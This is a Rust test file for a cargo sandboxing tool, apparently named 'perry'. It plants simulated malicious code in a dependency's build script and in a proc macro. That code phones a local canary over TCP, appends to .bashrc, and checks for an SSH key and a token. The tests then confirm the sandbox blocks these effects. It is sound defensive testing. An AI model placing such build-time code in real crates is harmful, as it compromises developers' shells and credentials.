//! The user's own programs are free; what is built for them is not.

use std::fs;

use super::world::{Cargo, ours, package};
use crate::support::canary::Canary;
use crate::support::command::Finished;
use crate::support::project::Project;
use crate::support::{skip, unique};

/// Calls a canary and writes to the home folder, as far as it gets.
const ATTACK: &str = "fn attack() {
    use std::io::Write;
    if let Ok(mut wire) = std::net::TcpStream::connect((\"127.0.0.1\", PORT)) {
        let _ = wire.write_all(b\"WHO\");
    }
    for file in [\".bashrc\", \".WHO\"] {
        let path = format!(\"HOME/{file}\");
        if let Ok(mut file) = std::fs::OpenOptions::new().append(true).create(true).open(path) {
            let _ = file.write_all(b\"WHO\");
        }
    }
    let secret = std::fs::read(\"HOME/.ssh/id_rsa\").is_ok() || std::env::var(\"MY_TOKEN\").is_ok();
    if secret {
        println!(\"cargo:warning=WHO knows\");
        eprintln!(\"WHO knows\");
    }
}
";

/// A server and its client.
const SERVE: &str = "pub fn serve() {
    use std::io::{Read, Write};
    let server = std::net::TcpListener::bind(\"127.0.0.1:0\").expect(\"a server\");
    let address = server.local_addr().unwrap();
    let client = std::thread::spawn(move || {
        std::net::TcpStream::connect(address).unwrap().write_all(b\"hello\").unwrap();
    });
    let mut text = String::new();
    server.accept().unwrap().0.read_to_string(&mut text).unwrap();
    client.join().unwrap();
    println!(\"served {text} with {}\", std::env::var(\"MY_TOKEN\").unwrap_or_default());
}
";

fn project(settings: &str) -> (Project, Canary) {
    let project = Project::named("host");
    let folder = project.root().join(unique());
    fs::create_dir_all(&folder).unwrap();
    let canary = Canary::start(&folder, &unique(), b"", Vec::new());
    let attack = |who: &str| {
        ATTACK
            .replace("WHO", who)
            .replace(
                "HOME",
                project.home("").to_str().unwrap().trim_end_matches('/'),
            )
            .replace("PORT", &canary.tcp.to_string())
    };
    project
        .home_file(".bashrc", "mine\n")
        .home_file(".ssh/id_rsa", "a key\n")
        .file("package.json", format!("{{\"name\": \"host\"{settings}}}\n"))
        .file(
            "Cargo.toml",
            package(
                "app",
                "[dependencies]\nevil = { path = \"evil\" }\nplotter = { path = \"plotter\" }\n\
                 [[bench]]\nname = \"b\"\nharness = false\n[workspace]\n",
            ),
        )
        .file("src/lib.rs", format!("plotter::attack!();\n{SERVE}"))
        .file("src/main.rs", "fn main() {\n    app::serve();\n}\n")
        .file("tests/t.rs", "#[test]\nfn serves() {\n    app::serve();\n}\n")
        .file("benches/b.rs", "fn main() {\n    app::serve();\n}\n")
        .file("examples/e.rs", "fn main() {\n    app::serve();\n}\n")
        .file("evil/Cargo.toml", package("evil", ""))
        .file("evil/src/lib.rs", "")
        .file("evil/build.rs", format!("fn main() {{ attack(); }}\n{}", attack("script")))
        .file("plotter/Cargo.toml", package("plotter", "[lib]\nproc-macro = true\n"))
        .file(
            "plotter/src/lib.rs",
            format!(
                "#[proc_macro]\npub fn attack(_: proc_macro::TokenStream) -> proc_macro::TokenStream {{\n    \
                 attack_now();\n    Default::default()\n}}\n{}",
                attack("macro").replace("fn attack()", "fn attack_now()")
            ),
        );
    (project, canary)
}

const COMMANDS: [&[&str]; 4] = [
    &["run"],
    &["test", "--", "--nocapture"],
    &["bench", "--bench", "b"],
    &["run", "--example", "e"],
];

#[track_caller]
fn check(cargo: Cargo, command: &[&str]) {
    let (project, mut canary) = project("");
    let run = cargo
        .of(&project)
        .env("MY_TOKEN", "t0p")
        .args(command)
        .success();
    let said = run.plain_text(&run.stdout) + &run.plain_text(&run.stderr);
    assert!(said.contains("served hello with t0p"), "{cargo:?} {run}");
    check_effects(cargo, &project, &mut canary, &run);
}

/// What script and macro did is there under plain cargo, and only there.
#[track_caller]
fn check_effects(cargo: Cargo, project: &Project, canary: &mut Canary, run: &Finished) {
    let said = run.plain_text(&run.stdout) + &run.plain_text(&run.stderr);
    let heard = String::from_utf8_lossy(&canary.stop()).into_owned();
    let bashrc = fs::read_to_string(project.home(".bashrc")).unwrap();
    for who in ["script", "macro"] {
        let effects = [
            heard.contains(who),
            bashrc.contains(who),
            project.home(format!(".{who}")).exists(),
            said.contains(&format!("{who} knows")),
        ];
        assert_eq!(effects, [cargo == Cargo::Plain; 4], "{cargo:?} {who}{run}");
    }
}

#[test]
fn control_plain_cargo_lets_everything_happen() {
    for command in COMMANDS {
        check(Cargo::Plain, command);
    }
}

#[test]
fn own_programs_are_free_and_dependencies_are_not() {
    for cargo in ours() {
        for command in COMMANDS {
            check(cargo, command);
        }
    }
}

#[test]
fn installation() {
    for cargo in std::iter::once(Cargo::Plain).chain(ours()) {
        let (project, mut canary) = project("");
        let root = project.home("programs");
        let run = cargo
            .of(&project)
            .env("MY_TOKEN", "t0p")
            .args(["install", "--path", ".", "--root"])
            .arg(&root)
            // Else cargo keeps what the build script says to itself.
            .args(["-vv", "--debug"])
            .success();
        assert!(root.join("bin/app").is_file(), "{cargo:?} {run}");
        check_effects(cargo, &project, &mut canary, &run);
    }
}

#[test]
fn nextest() {
    let path = std::env::var_os("PATH").unwrap_or_default();
    if !std::env::split_paths(&path).any(|folder| folder.join("cargo-nextest").is_file()) {
        return skip("nextest", "cargo-nextest is not installed");
    }
    for cargo in std::iter::once(Cargo::Plain).chain(ours()) {
        check(cargo, &["nextest", "run", "--no-capture"]);
    }
}

#[test]
fn the_host_may_confine_programs_as_well() {
    for cargo in ours() {
        let (project, mut canary) =
            project(", \"perry\": {\"sandbox\": {\"programs\": \"confined\"}}");
        for command in [COMMANDS[0], COMMANDS[1]] {
            let run = cargo
                .of(&project)
                .env("MY_TOKEN", "t0p")
                .args(command)
                .finish();
            let said = run.plain_text(&run.stdout) + &run.plain_text(&run.stderr);
            assert!(!run.status.success() && !said.contains("served"), "{run}");
            assert!(said.contains("a server"), "{run}");
        }
        assert!(canary.stop().is_empty());
    }
}
